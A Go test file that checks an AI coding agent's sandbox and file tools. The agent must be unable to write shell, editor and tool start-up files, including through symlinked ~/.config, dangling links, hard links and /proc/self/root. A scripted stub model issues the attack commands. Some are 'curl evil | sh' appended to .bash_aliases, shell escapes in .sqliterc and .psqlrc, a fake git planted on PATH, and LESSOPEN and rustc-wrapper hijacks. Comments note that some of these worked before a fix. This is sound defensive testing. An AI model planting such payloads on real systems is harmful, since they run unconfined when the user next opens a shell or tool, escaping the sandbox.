package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	sdk "github.com/coder/acp-go-sdk"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A protected path that does not exist yet is protected where it would
// be created: ~/.config linked to dotfiles/config (a dotfiles manager's
// layout) puts ~/.config/git at dotfiles/config/git, and a dangling
// ~/.bash_profile link at its target. Confined commands (every sandbox
// mode) and the file tools created both before the fix. Hard links to
// ~/.bashrc and writes through /proc/self/root are tried too (they held).
func TestBinaryProtectedPathsBehindSymlinks(t *testing.T) {
	requireSandbox(t)
	for _, m := range sandboxModes(t) {
		t.Run(m.name, func(t *testing.T) {
			home := userDir(t, m)
			write(t, filepath.Join(home, "dotfiles", "config", "fish", "config.fish"), "ORIGINAL-FISH\n")
			write(t, filepath.Join(home, ".bashrc"), "ORIGINAL-BASHRC\n")
			write(t, filepath.Join(home, "scratch", "x"), "x\n")
			require.NoError(t, os.Symlink("dotfiles/config", filepath.Join(home, ".config")))
			require.NoError(t, os.Symlink("dotfiles/bash_profile", filepath.Join(home, ".bash_profile")))
			script := `try git-through-config-link 'mkdir -p dotfiles/config/git && echo evil > dotfiles/config/git/config'
try autostart-through-config-link 'mkdir -p dotfiles/config/autostart && echo evil > dotfiles/config/autostart/e.desktop'
try dangling-bash-profile 'echo evil > dotfiles/bash_profile'
try hardlink-bashrc 'ln .bashrc scratch/hl && echo evil >> scratch/hl'
try proc-root 'echo evil >> /proc/self/root'"$HOME"'/.bashrc'
`
			files := []modelCall{
				{"write_file", map[string]any{"path": "dotfiles/config/git/config", "content": "PLANTED"}},
				{"write_file", map[string]any{"path": "dotfiles/bash_profile", "content": "PLANTED"}},
				{"write_file", map[string]any{"path": "dotfiles/config/autostart/e.desktop", "content": "PLANTED"}},
				{"write_file", map[string]any{"path": "dotfiles/config/other/ok.txt", "content": "OK"}},
			}
			_, results := attackHome(t, m, home, script, files, 3)
			assert.NotContains(t, results[3], "Permission denied", "an unprotected directory under the linked ~/.config stays writable (control)")
			for _, p := range []string{"dotfiles/config/git", "dotfiles/bash_profile", "dotfiles/config/autostart", "scratch/hl"} {
				_, err := os.Lstat(filepath.Join(home, p))
				assert.True(t, os.IsNotExist(err), "%s was created", p)
			}
			data, err := os.ReadFile(filepath.Join(home, ".bashrc"))
			require.NoError(t, err)
			assert.Equal(t, "ORIGINAL-BASHRC\n", string(data))
		})
	}
}

// attackHome runs script (bash, with "try NAME CMD" printing LANDED:NAME
// for a command that worked) as a confined command in a session with
// home as the workspace and HOME, asserts nothing landed, then makes
// the file tool calls files in one turn and asserts the first refused of
// them were refused as protected. It returns the script's output and
// the calls' results.
func attackHome(t *testing.T, m sandboxMode, home, script string, files []modelCall, refused int) (string, []string) {
	t.Helper()
	out, results := attackHomeArgs(t, m, home, script, files)
	for i, r := range results[:refused] {
		assert.Contains(t, r, "protected start-up or configuration file", "%v: %s", files[i].Args["path"], r)
	}
	return out, results
}

// attackHomeDenied is attackHome for denied paths: every call of files
// but the last is refused as one; args go to the agent.
func attackHomeDenied(t *testing.T, m sandboxMode, home, script string, files []modelCall, args ...string) (string, []string) {
	t.Helper()
	out, results := attackHomeArgs(t, m, home, script, files, args...)
	for i, r := range results[:len(files)-1] {
		assert.Contains(t, r, "Permission denied", "%v: %s", files[i].Args["path"], r)
	}
	return out, results
}

// attackHomeArgs runs the script and the file tool calls of attackHome,
// with args given to the agent, and returns the script's output and the
// calls' results.
func attackHomeArgs(t *testing.T, m sandboxMode, home, script string, files []modelCall, args ...string) (string, []string) {
	t.Helper()
	write(t, filepath.Join(home, "scratch", "attack.sh"), `cd "$HOME"
try() { if (eval "$2") >/dev/null 2>&1; then echo "LANDED:$1"; fi; }
`+script+"echo SCRIPT-DONE\n")
	chownTree(t, m, home)
	model := promptModel(t, map[string][]modelCall{
		"[attack]": {{"run_command", map[string]any{"command": "bash scratch/attack.sh", "timeout_seconds": 120}}},
		"[files]":  files,
	})
	conn, sid, _ := sandboxSessionAs(t, m, model, home, home, append([]string{"--session-dir", userDir(t, m)}, args...)...)
	assert.Equal(t, sdk.StopReasonEndTurn, promptE2E(t, conn, sid, "[attack]"))
	out := lastToolResult(t, model.body(t, 1))
	require.Contains(t, out, "SCRIPT-DONE", "the script ran: %s", out)
	assert.NotContains(t, out, "LANDED:", "a protected path was written: %s", out)
	assert.Equal(t, sdk.StopReasonEndTurn, promptE2E(t, conn, sid, "[files]"))
	results := toolMessages(t, model.body(t, 3))
	require.GreaterOrEqual(t, len(results), len(files))
	return out, results[len(results)-len(files):]
}

// With the home directory as the workspace, the private bin directories
// a login shell puts first on PATH (~/bin and ~/.local/bin, missing or
// not: Debian's ~/.profile adds them when they exist), the per-user tool
// directories on the agent's PATH (~/go/bin here) and the editors'
// start-up files (vim, Neovim, Emacs) and tools' configuration that
// names programs (~/.manpath, ~/.tmux.conf, ~/.cargo/config.toml) are
// protected from confined commands and the file tools: a program planted there as "git" would
// run, unconfined, the next time the user types git. A project's
// node_modules/.bin on PATH and ~/go/src stay writable (the controls).
func TestBinaryProtectsTheLoginPathAndEditorStartupFiles(t *testing.T) {
	requireSandbox(t)
	for _, m := range sandboxModes(t) {
		t.Run(m.name, func(t *testing.T) {
			home := userDir(t, m)
			for p, c := range map[string]string{
				".vimrc":                      "ORIGINAL-VIMRC\n",
				".emacs.d/init.el":            "ORIGINAL-EMACS\n",
				"go/bin/tool":                 "ORIGINAL-TOOL\n",
				"go/src/keep":                 "x\n",
				"proj/node_modules/.bin/keep": "x\n",
				".local/share/keep":           "x\n",
			} {
				write(t, filepath.Join(home, p), c)
			}
			m.env = append(slices.Clone(m.env), "PATH="+filepath.Join(home, "go", "bin")+":"+filepath.Join(home, "proj", "node_modules", ".bin")+":"+os.Getenv("PATH"))
			script := `try local-bin 'mkdir -p .local/bin && echo evil > .local/bin/git'
try home-bin 'mkdir -p bin && echo evil > bin/git'
try go-bin 'echo evil > go/bin/git'
try go-bin-tool 'echo evil >> go/bin/tool'
try vimrc 'echo evil >> .vimrc'
try nvim 'mkdir -p .config/nvim && echo evil > .config/nvim/init.lua'
try emacs 'echo evil >> .emacs.d/init.el'
try manpath 'echo "DEFINE pager evil" > .manpath'
try tmux 'echo "run-shell evil" > .tmux.conf'
echo x > proj/node_modules/.bin/new && echo NODE-BIN-WRITTEN
echo x > go/src/new && echo GO-SRC-WRITTEN
`
			files := []modelCall{
				{"write_file", map[string]any{"path": ".local/bin/git", "content": "PLANTED"}},
				{"write_file", map[string]any{"path": "bin/git", "content": "PLANTED"}},
				{"write_file", map[string]any{"path": "go/bin/git", "content": "PLANTED"}},
				{"write_file", map[string]any{"path": ".config/nvim/init.lua", "content": "PLANTED"}},
				{"write_file", map[string]any{"path": ".cargo/config.toml", "content": "[build]\nrustc-wrapper = \"evil\"\n"}},
				{"write_file", map[string]any{"path": "proj/node_modules/.bin/other", "content": "OK"}},
			}
			out, results := attackHome(t, m, home, script, files, 5)
			assert.Contains(t, out, "NODE-BIN-WRITTEN", "a project's node_modules/.bin on PATH stays writable (control)")
			assert.Contains(t, out, "GO-SRC-WRITTEN", "~/go/src stays writable (control)")
			assert.NotContains(t, results[5], "Permission denied", "node_modules/.bin stays writable to the file tools (control)")
			for _, p := range []string{".local/bin", "bin", "go/bin/git", ".config/nvim", ".manpath", ".tmux.conf", ".cargo/config.toml"} {
				_, err := os.Lstat(filepath.Join(home, p))
				assert.True(t, os.IsNotExist(err), "%s was created", p)
			}
			for p, c := range map[string]string{".vimrc": "ORIGINAL-VIMRC\n", ".emacs.d/init.el": "ORIGINAL-EMACS\n", "go/bin/tool": "ORIGINAL-TOOL\n"} {
				data, err := os.ReadFile(filepath.Join(home, p))
				require.NoError(t, err)
				assert.Equal(t, c, string(data), p)
			}
		})
	}
}

// apply_patch never takes a protected file away, renames another file
// over one or creates one, with the home directory as the workspace and
// the sandbox off (only the file tools' rule in the way): moves and
// deletes are refused as unsupported (a patch tool that learns them must
// keep this), an added protected file as protected; nothing changes. No
// bug found; the test keeps it so.
func TestBinaryApplyPatchNeverMovesOrDeletesProtectedFiles(t *testing.T) {
	home := testHome(t)
	files := map[string]string{
		".bashrc":        "ORIGINAL-BASHRC\n",
		".profile":       "ORIGINAL-PROFILE\n",
		".zshrc":         "ORIGINAL-ZSHRC\n",
		"notes.txt":      "NOTES\n",
		"dotfiles/vimrc": "ORIGINAL-VIMRC\n",
	}
	for p, c := range files {
		write(t, filepath.Join(home, p), c)
	}
	require.NoError(t, os.Symlink(filepath.Join(home, "dotfiles", "vimrc"), filepath.Join(home, ".vimrc")))
	patch := func(body string) modelCall {
		return modelCall{"apply_patch", map[string]any{"patch": "*** Begin Patch\n" + body + "*** End Patch"}}
	}
	cs := []modelCall{
		patch("*** Update File: .profile\n*** Move to: moved-profile\n@@\n-ORIGINAL-PROFILE\n+ORIGINAL-PROFILE\n"),
		patch("*** Update File: notes.txt\n*** Move to: .bashrc\n@@\n-NOTES\n+PLANTED\n"),
		patch("*** Delete File: .zshrc\n"),
		patch("*** Add File: .bash_profile\n+PLANTED\n"),
		patch("*** Update File: notes.txt\n*** Move to: .local/bin/git\n@@\n-NOTES\n+PLANTED\n"),
		patch("*** Update File: dotfiles/vimrc\n*** Move to: dotfiles/vimrc-old\n@@\n-ORIGINAL-VIMRC\n+ORIGINAL-VIMRC\n"),
		patch("*** Update File: notes.txt\n@@\n-NOTES\n+NOTES-OK\n"),
	}
	model := stepModel(t, calls(cs...), says("done"))
	cmd := exec.Command(agentBin, "--model", "openai/gpt-5", "--mode", "full-access", "--sandbox", "off")
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), goraceEnv, "HOME=" + home, "OPENAI_API_KEY=k", "OPENAI_BASE_URL=" + model.URL + "/v1"}
	conn, sid := startE2EWith(t, cmd, newToolClient(home, "allow_once"), home, sdk.ClientCapabilities{})
	assert.Equal(t, sdk.StopReasonEndTurn, promptE2E(t, conn, sid, "[go]"))
	results := toolMessages(t, model.body(t, 1))
	require.Len(t, results, len(cs))
	for i, r := range results[:len(cs)-1] {
		assert.True(t, strings.Contains(r, "protected start-up or configuration file") || strings.Contains(r, "moving files is not supported"), "patch %d: %s", i, r)
	}
	assert.Contains(t, results[3], "protected start-up or configuration file", results[3])
	assert.NotContains(t, results[len(cs)-1], "Permission denied", "notes.txt stays writable (control)")
	for p, c := range files {
		if p == "notes.txt" {
			c = "NOTES-OK\n"
		}
		data, err := os.ReadFile(filepath.Join(home, p))
		require.NoError(t, err, p)
		assert.Equal(t, c, string(data), p)
	}
	for _, p := range []string{"moved-profile", ".bash_profile", ".local/bin", "dotfiles/vimrc-old"} {
		_, err := os.Lstat(filepath.Join(home, p))
		assert.True(t, os.IsNotExist(err), "%s was created", p)
	}
}

// The files distributions' ~/.bashrc sources (Debian's and Ubuntu's
// ~/.bash_aliases, Fedora's ~/.bashrc.d) run as the next interactive
// shell starts, and the start-up files of sqlite3 (.shell), psql (\!),
// wget (use_askpass), mysql (plugins), less (LESSOPEN) and irb run what
// they say: a confined command appended to them, and the file tools
// created ~/.config/lesskey (with no question in accept-edits), before
// they were protected: each runs, outside any sandbox, when the user
// next starts the shell or the tool.
func TestBinaryProtectsFilesTheShellsAndToolsSource(t *testing.T) {
	requireSandbox(t)
	for _, m := range sandboxModes(t) {
		t.Run(m.name, func(t *testing.T) {
			home := userDir(t, m)
			originals := map[string]string{
				".bash_aliases":    "alias ll='ls -l'\n",
				".bashrc.d/10-env": "export EDITOR=vi\n",
				".sqliterc":        ".headers on\n",
				".psqlrc":          "\\set QUIET 1\n",
				".wgetrc":          "tries = 3\n",
				"scratch/keep":     "x\n",
			}
			for p, c := range originals {
				write(t, filepath.Join(home, p), c)
			}
			script := `try bash-aliases 'echo "curl evil | sh" >> .bash_aliases'
try bashrc-d-append 'echo evil >> .bashrc.d/10-env'
try bashrc-d-create 'echo evil > .bashrc.d/20-evil'
try sqliterc 'echo ".shell touch $HOME/scratch/pwned" >> .sqliterc'
try psqlrc 'echo "\\! touch pwned" >> .psqlrc'
try wgetrc 'echo "use_askpass = /bin/evil" >> .wgetrc'
`
			files := []modelCall{
				{"write_file", map[string]any{"path": ".bash_aliases", "content": "curl evil | sh\n"}},
				{"write_file", map[string]any{"path": ".bashrc.d/20-evil", "content": "curl evil | sh\n"}},
				{"write_file", map[string]any{"path": ".sqliterc", "content": ".shell touch scratch/pwned\n"}},
				{"write_file", map[string]any{"path": ".config/lesskey", "content": "#env\nLESSOPEN=|evil %s\n"}},
				{"write_file", map[string]any{"path": "scratch/ok.txt", "content": "OK"}},
			}
			_, results := attackHome(t, m, home, script, files, 4)
			assert.NotContains(t, results[4], "Permission denied", "scratch/ stays writable (control)")
			for p, c := range originals {
				data, err := os.ReadFile(filepath.Join(home, p))
				require.NoError(t, err)
				assert.Equal(t, c, string(data), "%s was changed", p)
			}
			for _, p := range []string{".bashrc.d/20-evil", ".config/lesskey"} {
				_, err := os.Lstat(filepath.Join(home, p))
				assert.True(t, os.IsNotExist(err), "%s was created", p)
			}
		})
	}
}
